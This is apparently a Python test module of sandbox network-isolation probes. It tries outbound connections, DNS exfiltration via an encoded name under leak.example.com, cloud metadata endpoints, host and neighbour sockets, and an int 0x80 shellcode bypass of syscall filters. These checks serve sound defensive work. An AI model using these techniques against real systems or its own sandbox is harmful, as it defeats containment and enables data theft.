"""Attacks on the network from inside: out to the world, to the host, to neighbours. Source: ip(7), unix(7), vsock(7).

Facts: `host_addresses`, `host_ports` (listening on the host), `own_ports` (doors that are meant to be here),
`neighbour` (name of an abstract socket, and a port, that the neighbour listens on).
"""

from __future__ import annotations

import ctypes
import fcntl
import mmap
import os
import socket
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from enclave.workspace.barriers.inside.kit import Verdict, all_refused, broken, held, in_child, name_of, probe

NO_WAY = ("ENETUNREACH", "EADDRNOTAVAIL", "EHOSTUNREACH", "EINVAL")
OUTSIDE = ("8.8.8.8", "1.1.1.1", "203.0.113.7")
METADATA = ("169.254.169.254", "169.254.170.2", "169.254.0.1", "100.100.100.200", "fd00:ec2::254")
QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05leak1\x07example\x03com\x00\x00\x01\x00\x01"
TIMEOUT_S = 2
# Loopback, and tunnel templates of the kernel that are there in every new name space, down and without an address.
TEMPLATES = {"lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0"}


def tcp_to(address: str, port: int) -> Callable[[], object]:
    """Return an attempt to connect."""

    def attempt() -> None:
        try:
            socket.create_connection((address, port), timeout=TIMEOUT_S).close()
        except TimeoutError as error:
            # A packet that left and was dropped on the way is not "no way out".
            raise OSError(110, "timed out") from error

    return attempt


def udp_to(address: str, port: int, data: bytes = QUERY) -> Callable[[], object]:
    """Return an attempt to send a datagram and to hear an answer."""

    def attempt() -> None:
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.settimeout(TIMEOUT_S)
            link.connect((address, port))
            link.send(data)
            try:
                link.recv(512)
            except TimeoutError as error:
                raise OSError(110, "sent, no answer") from error

    return attempt


@probe("net.tcp")
def tcp(_: dict[str, Any]) -> Verdict:
    """TCP to addresses of the Internet."""
    return all_refused({f"{a}:{p}": tcp_to(a, p) for a in OUTSIDE for p in (53, 80, 443)}, *NO_WAY)


@probe("net.udp")
def udp(_: dict[str, Any]) -> Verdict:
    """UDP to addresses of the Internet."""
    return all_refused({f"{a}:{p}": udp_to(a, p, b"leak") for a in OUTSIDE for p in (123, 443, 5353)}, *NO_WAY)


@probe("net.icmp")
def icmp(_: dict[str, Any]) -> Verdict:
    """Ping, with the socket that needs no privilege and with the one that does."""

    def ping(kind: int) -> Callable[[], object]:
        def attempt() -> None:
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as link:
                link.sendto(b"\x08\x00\xf7\xfe\x00\x00\x00\x01" + b"leak", (OUTSIDE[0], 0))

        return attempt

    attempts = {"datagram": ping(socket.SOCK_DGRAM), "raw": ping(socket.SOCK_RAW)}
    return all_refused(attempts, *NO_WAY, "EPERM", "EACCES", "EPROTONOSUPPORT")


@probe("net.dns-name")
def dns_name(_: dict[str, Any]) -> Verdict:
    """A name that carries data out through whatever resolver there is."""
    try:
        found = socket.getaddrinfo("c2VjcmV0.leak.example.com", 80)
    except socket.gaierror as error:
        return held(f"getaddrinfo: {error}")
    return broken(f"resolved to {found[0][4]}")


@probe("net.dns-embedded")
def dns_embedded(_: dict[str, Any]) -> Verdict:
    """The engine's embedded resolver (CVE-2024-29018), over UDP and TCP."""
    attempts = {"udp": udp_to("127.0.0.11", 53), "tcp": tcp_to("127.0.0.11", 53)}
    return all_refused(attempts, "ECONNREFUSED", *NO_WAY)


@probe("net.dns-servers")
def dns_servers(_: dict[str, Any]) -> Verdict:
    """The resolvers that the system names, and well-known ones, asked directly."""
    lines = Path("/etc/resolv.conf").read_text().splitlines() if Path("/etc/resolv.conf").exists() else []
    named = [line.split()[1] for line in lines if line.startswith("nameserver")]
    return all_refused({a: udp_to(a, 53) for a in [*named, *OUTSIDE[:2], "127.0.0.53"]}, "ECONNREFUSED", *NO_WAY)


@probe("net.metadata")
def metadata(_: dict[str, Any]) -> Verdict:
    """The cloud's metadata service and the whole link-local range."""
    return all_refused({a: tcp_to(a, 80) for a in METADATA}, *NO_WAY)


@probe("net.host-addresses")
def host_addresses(facts: dict[str, Any]) -> Verdict:
    """Each address of the host, on each port that the host listens on."""
    ports = [*facts["host_ports"], 22, 2375, 2376]
    pairs = [(address, port) for address in facts["host_addresses"] for port in ports]
    return all_refused({f"{a}:{p}": tcp_to(a, p) for a, p in pairs[:400]}, *NO_WAY)


@probe("net.host-loopback")
def host_loopback(facts: dict[str, Any]) -> Verdict:
    """Each port that the host listens on, on this side's loopback: host services must not be behind it."""
    ports = [port for port in facts["host_ports"] if port not in facts["own_ports"]]
    return all_refused({f"127.0.0.1:{p}": tcp_to("127.0.0.1", p) for p in ports}, "ECONNREFUSED", "ENETUNREACH")


@probe("net.other-workspaces")
def other_workspaces(facts: dict[str, Any]) -> Verdict:
    """The relays of all running workspaces, of this project and of others, and what the neighbour listens on."""
    ports = [*facts["relay_ports"], facts["neighbour"]["port"]]
    places = [("127.0.0.1", port) for port in ports] + [
        (a, facts["neighbour"]["port"]) for a in facts["host_addresses"]
    ]
    return all_refused({f"{a}:{p}": tcp_to(a, p) for a, p in places}, "ECONNREFUSED", *NO_WAY)


@probe("net.neighbour-abstract")
def neighbour_abstract(facts: dict[str, Any]) -> Verdict:
    """A socket in the abstract name space, which needs no file: the neighbour listens on it right now."""

    def attempt() -> None:
        with socket.socket(socket.AF_UNIX) as link:
            link.connect("\0" + facts["neighbour"]["abstract"])

    return all_refused({"abstract socket": attempt}, "ECONNREFUSED")


@probe("net.ipv6")
def ipv6(_: dict[str, Any]) -> Verdict:
    """IPv6: global, local, link-local, and IPv4 in its clothes."""
    addresses = ("2001:4860:4860::8888", "fd00::1", "fe80::1", "ff02::1", "::ffff:8.8.8.8", "64:ff9b::808:808")
    both = {f"tcp {a}": tcp_to(a, 53) for a in addresses} | {f"udp {a}": udp_to(a, 53) for a in addresses[:3]}
    return all_refused(both, *NO_WAY, "EAFNOSUPPORT", "EPERM")


@probe("net.interfaces")
def interfaces(_: dict[str, Any]) -> Verdict:
    """Whether there is any interface but loopback, or any route."""
    names = [line.split(":")[0].strip() for line in Path("/proc/net/dev").read_text().splitlines()[2:]]
    real = [name for name in names if name not in TEMPLATES]
    routes = Path("/proc/net/route").read_text().splitlines()[1:]
    if real or routes:
        return broken(f"interfaces {real}, {len(routes)} routes")
    return held(f"interfaces {names}, 0 routes")


def by_ioctl(call: int, request: bytes) -> Callable[[], object]:
    """Return an attempt to configure the network by one ioctl (netdevice(7)); it raises what the kernel answers."""

    def attempt() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            fcntl.ioctl(link, call, request)

    return attempt


@probe("net.configure")
def configure(_: dict[str, Any]) -> Verdict:
    """Giving oneself an address, a route, an interface."""

    def new_link() -> None:
        # RTM_NEWLINK of a dummy interface, by route netlink, which workspaces may open for reading.
        kind = struct.pack("=HH", 4 + 6, 1) + b"dummy\0" + b"\0\0"
        data = struct.pack("=HH", 4 + len(kind), 18) + kind
        body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + data
        head = struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0)
        with socket.socket(16, socket.SOCK_RAW, 0) as link:
            link.settimeout(TIMEOUT_S)
            link.send(head + body)
            answer = link.recv(4096)
            code = -struct.unpack_from("=i", answer, 16)[0]
            if code:
                raise OSError(code, "netlink")

    address = struct.pack("=16sHHI8x", b"lo:1", 2, 0, int.from_bytes(b"\x0a\x00\x00\x02", "little"))
    up = struct.pack("=16sH14x", b"tunl0", 0x41)
    attempts = {"address": by_ioctl(0x8916, address), "interface up": by_ioctl(0x8914, up), "new interface": new_link}
    return all_refused(attempts, "EPERM", "EACCES", "ENODEV")


def _sockets(kinds: dict[str, tuple[int, int, int]]) -> dict[str, Callable[[], object]]:
    return {name: lambda kind=kind: socket.socket(*kind).close() for name, kind in kinds.items()}  # type: ignore[misc]


@probe("net.raw")
def raw(_: dict[str, Any]) -> Verdict:
    """Raw and packet sockets."""
    kinds = {"raw icmp": (2, 3, 1), "raw tcp": (2, 3, 6), "raw ipv6": (10, 3, 58), "packet": (17, 3, 0x300)}
    return all_refused(_sockets(kinds | {"packet datagram": (17, 2, 0x300)}), "EPERM", "EACCES")


@probe("net.vsock")
def vsock(_: dict[str, Any]) -> Verdict:
    """The socket family that leads to the hypervisor."""
    return all_refused(_sockets({"stream": (40, 1, 0), "datagram": (40, 2, 0)}), "EPERM")


@probe("net.families")
def families(_: dict[str, Any]) -> Verdict:
    """Socket families that nobody needs here: kernel crypto, XDP, TIPC, RDS, CAN, Bluetooth, NFC, SMC, MCTP."""
    numbers = {
        "alg": 38,
        "xdp": 44,
        "tipc": 30,
        "rds": 21,
        "can": 29,
        "bluetooth": 31,
        "nfc": 39,
        "smc": 43,
        "mctp": 45,
    }
    return all_refused(_sockets({name: (number, 2, 0) for name, number in numbers.items()}), "EPERM")


@probe("net.netlink")
def netlink(_: dict[str, Any]) -> Verdict:
    """Netlink protocols beside routes: audit, device events, netfilter, generic, crypto, sockets of others."""
    numbers = {"audit": 9, "uevent": 15, "netfilter": 12, "generic": 16, "crypto": 21, "sock_diag": 4, "connector": 11}
    return all_refused(_sockets({name: (16, 3, number) for name, number in numbers.items()}), "EPERM")


@probe("net.old-call-path")
def old_call_path(_: dict[str, Any]) -> Verdict:
    """AF_VSOCK through `int 0x80`, where filters of the modern path do not look."""

    def call() -> int:
        page = mmap.mmap(-1, 4096, prot=7)
        # mov eax, 102 (socketcall); mov ebx, 1; int 0x80; ret
        page.write(bytes.fromhex("b866000000bb01000000cd80c3"))
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        return 0

    code = in_child(call)
    return held("killed by SIGSYS") if code == -31 else broken(f"the call came back (exit {code})")  # noqa: PLR2004


@probe("net.database")
def database(facts: dict[str, Any]) -> Verdict:
    """The database: its ports, its sockets, its file."""

    def unix(path: str) -> Callable[[], object]:
        def attempt() -> None:
            with socket.socket(socket.AF_UNIX) as link:
                link.connect(path)

        return attempt

    ports = {f"127.0.0.1:{p}": tcp_to("127.0.0.1", p) for p in (5432, 3306, 6379)}
    ports |= {f"{a}:5432": tcp_to(a, 5432) for a in facts["host_addresses"]}
    paths = ("/var/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432")
    files = {facts["database"]: lambda: os.close(os.open(facts["database"], os.O_RDONLY))} if facts["database"] else {}
    return all_refused(ports | {p: unix(p) for p in paths} | files, "ECONNREFUSED", "ENOENT", "EACCES", *NO_WAY)


@probe("net.gate-ports")
def gate_ports(facts: dict[str, Any]) -> Verdict:
    """Taking the place of the gate's doors inside, to hear what the notebook server says to them."""
    taken = {}
    for port in facts["door_ports"]:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            with socket.socket() as link:
                link.setsockopt(socket.SOL_SOCKET, option, 1)
                try:
                    link.bind(("127.0.0.1", port))
                    link.listen()
                    taken[f"{port}/{option}"] = "SUCCEEDED"
                except OSError as error:
                    taken[f"{port}/{option}"] = name_of(error.errno)
    wrong = {key: value for key, value in taken.items() if value != "EADDRINUSE"}
    return broken(str(wrong)) if wrong or not taken else held(f"{len(taken)} × EADDRINUSE")
